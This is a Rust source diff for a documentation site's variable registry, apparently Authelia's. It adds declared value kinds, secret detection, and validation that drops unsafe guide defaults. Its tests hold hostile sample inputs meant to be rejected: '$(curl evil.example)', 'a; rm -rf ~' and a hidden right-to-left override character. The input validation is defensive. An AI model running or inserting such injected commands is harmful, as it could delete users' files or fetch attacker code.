@@ -4,10 +4,14 @@
 //! module knows each variable's type, default and human label, how a value is shown in
 //! a derived `format` (`regex`, `dn`), and re-exports the validator the UI uses.
 
+mod secret;
 mod validate;
 
+pub use secret::is_secret;
 pub(crate) use validate::is_unreserved;
-pub use validate::{ValueError, validate};
+pub use validate::{
+    MAX_CLIENT_ID_LEN, MAX_HOST_LEN, MAX_LABEL_LEN, MAX_TEXT_LEN, ValueError, validate, validate_as,
+};
 
 use std::borrow::Cow;
 use std::collections::{HashMap, HashSet};
@@ -51,6 +55,8 @@ pub const MAX_VARIABLES: usize = 64;
 pub(crate) struct Registry {
     admitted: HashSet<String>,
     nojs: HashMap<String, String>,
+    /// The first kind declared for each of the guide's own names.
+    kinds: HashMap<String, Kind>,
     /// Some name was refused for passing [`MAX_VARIABLES`].
     pub refused: bool,
 }
@@ -74,6 +80,22 @@ impl Registry {
         true
     }
 
+    /// Records the kind a guide declares for `name`, if it is the first declared and
+    /// the name is the guide's own (Authelia's names and the credentials keep theirs).
+    pub fn declare(&mut self, name: &str, kind: Option<Kind>) {
+        if let Some(kind) = kind
+            && !has_own_rules(name)
+            && !self.kinds.contains_key(name)
+        {
+            self.kinds.insert(name.to_owned(), kind);
+        }
+    }
+
+    /// The kind declared for `name`, if any.
+    pub fn kind(&self, name: &str) -> Option<Kind> {
+        self.kinds.get(name).copied()
+    }
+
     /// The first `nojs` text of `name`, if any.
     pub fn nojs(&self, name: &str) -> Option<&str> {
         self.nojs.get(name).map(String::as_str)
@@ -81,19 +103,48 @@ impl Registry {
 
     /// The variable `name` as the guide defines it.
     pub fn describe(&self, name: &str) -> Variable {
-        describe(name, self.nojs(name))
+        describe_declared(name, self.nojs(name), self.kind(name))
+    }
+
+    /// Whether the guide gave `name` a default it may not have (see
+    /// [`describe_declared`]).
+    pub fn default_refused(&self, name: &str) -> bool {
+        self.nojs(name).is_some_and(|n| !n.is_empty()) && self.describe(name).default.is_empty()
     }
 }
 
-/// What kind of input a variable takes; the UI picks its control from this.
+/// What kind of value a variable takes: the UI picks its control from this, and a
+/// guide's own variable is validated by it (see [`validate_as`]). Authelia's variables
+/// have theirs; a guide declares one for a name of its own with `kind` on its
+/// `sitevar` ([`Kind::from_arg`]), and an undeclared name is [`Kind::Text`].
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
 pub enum Kind {
-    /// Free text (host names, ids, secrets).
+    /// Text: Authelia's host names, the client id and secret by their own rules; a
+    /// guide's own variable, plain words.
     Text,
-    /// A whole number (the port).
+    /// A whole number (the port; `kind="port"`: 1–65535).
     Number,
     /// `true` or `false` (TLS), shown as `https` / `http`.
     Boolean,
+    /// `kind="url"`: an absolute `http`/`https` address without credentials or
+    /// fragment.
+    Url,
+    /// `kind="host"`: an RFC 1123 host name.
+    Host,
+}
+
+impl Kind {
+    /// The kind a `sitevar`'s `kind` argument declares: `url`, `host`, `port` or `text`
+    /// (any case); `None` for none or another word, which leaves the name plain text.
+    pub fn from_arg(arg: Option<&str>) -> Option<Kind> {
+        match arg?.trim().to_ascii_lowercase().as_str() {
+            "url" => Some(Kind::Url),
+            "host" => Some(Kind::Host),
+            "port" => Some(Kind::Number),
+            "text" => Some(Kind::Text),
+            _ => None,
+        }
+    }
 }
 
 /// A derived presentation of a value, selected by a sitevar's `format` argument.
@@ -140,6 +191,31 @@ pub struct Variable {
     pub kind: Kind,
     /// Value used when the reader has set none.
     pub default: String,
+}
+
+impl Variable {
+    /// Validates a value for this variable, by its name and kind (see [`validate_as`]).
+    ///
+    /// # Errors
+    /// The first rule `value` breaks, as a [`ValueError`] whose message says what to
+    /// type instead.
+    pub fn validate(&self, value: &str) -> Result<(), ValueError> {
+        validate_as(&self.name, self.kind, value)
+    }
+
+    /// Whether the variable holds a secret, by what its name or label says (see
+    /// [`is_secret`]): no link or image address may carry it.
+    pub fn is_secret(&self) -> bool {
+        is_secret(&self.name, &self.label)
+    }
+}
+
+impl VarRef {
+    /// Whether the variable this occurrence shows holds a secret, by its name and the
+    /// label the registry gives that name (see [`is_secret`]).
+    pub fn is_secret(&self) -> bool {
+        is_secret(&self.name, &describe(&self.name, None).label)
+    }
 }
 
 /// A variable Authelia's site defines itself.
@@ -194,9 +270,26 @@ pub fn known(name: &str) -> Option<&'static Known> {
     KNOWN.iter().find(|k| k.name == name)
 }
 
-/// Describes a variable: the registry entry for a known name, otherwise a text variable
-/// whose default is the guide's `nojs` text and whose label is derived from the name.
+/// Whether `name` has rules of its own whatever a guide declares: Authelia's variables
+/// and the client id and secret.
+fn has_own_rules(name: &str) -> bool {
+    known(name).is_some() || name == CLIENT_ID || name == CLIENT_SECRET
+}
+
+/// Describes a variable a guide declares nothing for: see [`describe_declared`].
 pub fn describe(name: &str, nojs: Option<&str>) -> Variable {
+    describe_declared(name, nojs, None)
+}
+
+/// Describes a variable: the registry entry for a known name, otherwise a variable of
+/// the declared kind (text when none) whose default is the guide's `nojs` text and
+/// whose label is derived from the name.
+///
+/// A guide's default is held to the rules the reader's values are (see
+/// [`validate_as`]): one it may not have (an invisible character, a shell or YAML
+/// metacharacter in plain words, an address that is not one) is dropped, and the
+/// variable starts empty.
+pub fn describe_declared(name: &str, nojs: Option<&str>, kind: Option<Kind>) -> Variable {
     match known(name) {
         Some(k) => Variable {
             name: name.to_owned(),
@@ -204,12 +297,22 @@ pub fn describe(name: &str, nojs: Option<&str>) -> Variable {
             kind: k.kind,
             default: k.default.to_owned(),
         },
-        None => Variable {
-            name: name.to_owned(),
-            label: label_for(name),
-            kind: Kind::Text,
-            default: nojs.unwrap_or_default().to_owned(),
-        },
+        None => {
+            let kind = if has_own_rules(name) {
+                Kind::Text
+            } else {
+                kind.unwrap_or(Kind::Text)
+            };
+            let default = nojs
+                .filter(|n| validate_as(name, kind, n).is_ok())
+                .unwrap_or_default();
+            Variable {
+                name: name.to_owned(),
+                label: label_for(name),
+                kind,
+                default: default.to_owned(),
+            }
+        }
     }
 }
 
@@ -297,5 +400,53 @@ mod tests {
         assert_eq!(v.default, "matomo");
         assert_eq!(v.kind, Kind::Text);
         assert_eq!(describe("subdomain-authelia", Some("x")).default, "auth");
+    }
+}
+
+#[cfg(test)]
+mod declared_tests {
+    use super::*;
+
+    #[test]
+    fn kinds_are_declared_by_name_and_unknown_words_declare_nothing() {
+        assert_eq!(Kind::from_arg(Some("url")), Some(Kind::Url));
+        assert_eq!(Kind::from_arg(Some(" Host ")), Some(Kind::Host));
+        assert_eq!(Kind::from_arg(Some("port")), Some(Kind::Number));
+        assert_eq!(Kind::from_arg(Some("text")), Some(Kind::Text));
+        assert_eq!(Kind::from_arg(Some("boolean")), None);
+        assert_eq!(Kind::from_arg(None), None);
+    }
+
+    #[test]
+    fn a_default_the_reader_could_not_type_is_dropped() {
+        let url = describe_declared("app-url", Some("https://app.example.com/"), Some(Kind::Url));
+        assert_eq!(url.kind, Kind::Url);
+        assert_eq!(url.default, "https://app.example.com/");
+        for (nojs, kind) in [
+            ("app\u{202E}txt", None),
+            ("$(curl evil.example)", None),
+            ("a; rm -rf ~", None),
+            ("not an address", Some(Kind::Url)),
+            ("99999", Some(Kind::Number)),
+        ] {
+            assert_eq!(
+                describe_declared("app", Some(nojs), kind).default,
+                "",
+                "{nojs}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_guide_cannot_redeclare_authelias_names_or_the_credentials() {
+        let mut registry = Registry::default();
+        registry.declare("port", Some(Kind::Url));
+        registry.declare(CLIENT_SECRET, Some(Kind::Url));
+        registry.declare("app-url", Some(Kind::Url));
+        registry.declare("app-url", Some(Kind::Host));
+        assert_eq!(registry.kind("port"), None);
+        assert_eq!(registry.describe("port").kind, Kind::Number);
+        assert_eq!(registry.describe(CLIENT_SECRET).kind, Kind::Text);
+        assert_eq!(registry.kind("app-url"), Some(Kind::Url));
     }
 }
